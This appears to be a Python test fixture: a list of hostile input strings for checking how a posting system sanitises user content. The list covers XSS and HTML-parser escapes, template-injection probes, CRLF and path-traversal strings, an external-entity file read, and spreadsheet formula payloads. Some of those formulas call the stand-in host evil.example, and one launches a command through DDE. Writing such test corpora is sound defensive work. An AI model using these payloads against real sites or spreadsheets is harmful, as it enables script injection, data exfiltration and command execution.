"""Words that want to be more than words: what posts may hold, one of a kind each."""

from __future__ import annotations

HOSTILE = [
    # elements and ways out of elements
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "</title><body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//e>",
    "<form action=//evil.example><input name=q>", "<object data=x>", "<embed src=x>", "<style>*{display:none}</style>",
    "<!-- ", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<template><p>", "<plaintext>",
    "<textarea>", "</td></tr></table><h1>owned</h1>", "</details></q></bdi>", "<math><mtext></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<details open ontoggle=alert(1)>",
    # ways out of attributes
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onclick=`alert(1)", '"><script>alert(1)</script>',
    'x" style="position:fixed', "a_0123456789\" onclick=\"alert(1)", "=\"'><&",
    # entities and templates
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;b&amp;gt;",
    "{{ 7 * 7 }}", "{% raw %}", "{{ report.__class__.__mro__ }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    # links
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "file:///etc/passwd",
    "https://", "http://[", "https://evil.example/\" onclick=\"alert(1)", "https://evil.example/<script>",
    "https://evil.example/\u202egpj.exe", "https:\\\\evil.example", "blob:https://evil.example/1",
    # characters
    "\u202egnp.exe\u202c", "\u2066hidden\u2069\u200f", "zero\u200bwidth\u200d\ufeff", "nul\x00bell\x07esc\x1b[31mred",
    "c1\x9b31m\x85next", "line\u2028and\u2029paragraph", "a\r\nSet-Cookie: x", "tag\U000e0041\U000e0042",
    "\ud800half\udfff",
    "\u3164\u115f\u2800", "Z" + "\u0334\u0322\u031b\u034e" * 50 + "algo", "noncharacter\uffff\ufdd0",
    "\u034f\u00ad\u061c",
    "", " \t\n", "W" * 1_000_000, "word " * 100_000, "\u202e" * 20_000,
    # formulas
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\u202e=1+1", "﹢1", "−1",
    '"=1+1"', ",=1+1", "=HYPERLINK(\"https://evil.example\")", "'=1+1", "%0A=1+1", "%s%n", "../../etc/passwd",
    # more elements: foreign content, raw text, parsing that changes its mind
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><annotation-xml encoding=text/html><script>alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><body onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<form><math><mtext></form><form><mglyph><style></math>",
    "<xmp><script>alert(1)</script>", "<listing>&lt;img onerror=alert(1)>", "<noembed><script>alert(1)</script>",
    "<select><option><script>alert(1)</script>", "<table><script>alert(1)</script><td>", "<frameset onload=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>",
    "<dialog open onclose=alert(1)>", "<a ping=//evil.example href=#>x</a>", "<img srcset='//evil.example/x 2x'>",
    "<link rel=prefetch href=//evil.example>", "<script src=//evil.example/x.js></script>", "<script type=module>alert(1)</script>",
    "<script type=importmap>{\"imports\":{}}</script>", "<applet code=x>", "<bgsound src=//evil.example>",
    "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<portal src=//evil.example>",
    "<template shadowrootmode=open><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>", "<x-custom onclick=alert(1)>",
    "<p/onclick=alert(1)>", "<img/src=`x`onerror=alert(1)>", "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<!--><script>alert(1)</script>",
    "<!--!><img src=x onerror=alert(1)>", "<!doctype html><html><body onload=alert(1)>", "<?xml version='1.0'?><x/>",
    "<?php echo 1 ?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "]]><script>alert(1)</script>",
    "<style>@import '//evil.example';</style>", "<div style=background:url(//evil.example)>", "<p style='x:expression(alert(1))'>",
    "<p class=decided hidden>", "<h2 id=facts>", "<div id=rows>", "<input name=attributes><input name=parentNode>",
    # the page's own data and scripts
    "</script><!--", "<!--<script>", "\\u003c/script\\u003e", "\\\"},{\\\"x\\\":\\\"", "`${alert(1)}`", "__proto__", "constructor",
    "toString", "hasOwnProperty", "*/alert(1)/*", "//# sourceMappingURL=//evil.example", "\\x3cscript\\x3e", "\\",
    # more entities
    "&lt", "&#x3c;script&#x3e;", "&#0000060;img onerror=alert(1)&#62;", "&NewLine;javascript&colon;alert(1)", "&#0;", "&#xd800;",
    "&#x110000;", "&CounterClockwiseContourIntegral;", "&notin;&not", "%3Cscript%3E",
    # more links
    "https://evil.example@good.example/", "https://good.example:99999/", "HTTPS://EVIL.EXAMPLE/\t\n", "https://[::1]/", "https://xn--80ak6aa92e.com/",
    "ftp://evil.example/x", "mailto:a@b.example?bcc=c", "tel:+1", "view-source:https://evil.example", "intent://x#Intent;end", "filesystem:https://x/y",
    "https://evil.example/%0d%0aSet-Cookie:x", "https://evil.example/?" + "a" * 9_000, "\\\\evil.example\\share",
    # more characters
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 400, "\U0001f1e9\U0001f1ea" * 300, "\u0627\u0644\u0644\u0647" * 200, "\u1ea4\u0323" * 300,
    "\ufdfd" * 60, "\U00012031" * 60, "\u0e47" * 400, "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x08" * 50 + "gone", "a\x0bb\x0cc", "\ufff9a\ufffab\ufffb",
    "\u180e\u17b4", "\U000e0001\U000e007f", "\u2028" * 50, "\ud83d", "\udc00\ud800",
    # more formulas
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "@=1+1", "+-=1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
    "{=1+1}", "=A1:A9", "#REF!", "1;=1+1", "\u2003=1+1", "\u2060=1+1", "\u00ad=1+1", "\uff09=1+1", "|calc", "=\u200b1+1", "\v=1+1", "-@1", "TRUE",
]  # fmt: skip
